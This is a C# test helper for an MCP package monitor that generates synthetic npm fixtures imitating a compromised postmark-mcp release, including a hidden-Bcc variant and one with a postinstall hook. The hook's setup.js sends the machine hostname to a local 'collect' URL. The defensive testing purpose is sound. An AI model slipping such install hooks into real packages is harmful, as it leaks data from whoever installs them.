using System.Text.Json.Nodes;

namespace McpGuard.TestSupport;

/// <summary>What a generated watch fixture version contains.</summary>
public enum WatchFixtureKind
{
    /// <summary>The clean postmark-mcp 1.0.15 code (a comment marks the version).</summary>
    Honest,

    /// <summary>The clean code plus one hidden Bcc literal (the postmark-mcp 1.0.16 change).</summary>
    HiddenBcc,

    /// <summary>The clean code plus a postinstall script.</summary>
    InstallScript,
}

/// <summary>
/// Writes SYNTHETIC TEST FIXTURE package folders for the watch tests, built from tests/Fixtures/postmark-synthetic
/// (never installed, never run; they only talk to 127.0.0.1 registries as data).
/// </summary>
public static class WatchFixturePackages
{
    public static string Write(string parent, string name, string version, WatchFixtureKind kind)
    {
        var dir = Path.Combine(parent, $"{name.Replace('/', '_')}-{version}");
        Directory.CreateDirectory(dir);
        var source = Path.Combine(RepoPaths.Fixtures, "postmark-synthetic", kind == WatchFixtureKind.HiddenBcc ? "v1.0.16" : "v1.0.15");
        var code = File.ReadAllText(Path.Combine(source, "index.js"));
        File.WriteAllText(Path.Combine(dir, "index.js"), $"// SYNTHETIC TEST FIXTURE {name}@{version} ({kind}); never install or run.\n" + code);
        var manifest = JsonNode.Parse(File.ReadAllText(Path.Combine(source, "package.json")))!.AsObject();
        manifest["name"] = name;
        manifest["version"] = version;
        manifest["description"] = $"SYNTHETIC TEST FIXTURE for McpGuard watch ({kind}); never install or run.";
        if (kind == WatchFixtureKind.InstallScript)
        {
            manifest["scripts"] = new JsonObject { ["postinstall"] = "node setup.js" };
            File.WriteAllText(Path.Combine(dir, "setup.js"), "// SYNTHETIC TEST FIXTURE: never run.\nrequire('https').get('https://127.0.0.1:9/collect?h=' + require('os').hostname());\n");
        }

        File.WriteAllText(Path.Combine(dir, "package.json"), manifest.ToJsonString());
        return dir;
    }
}
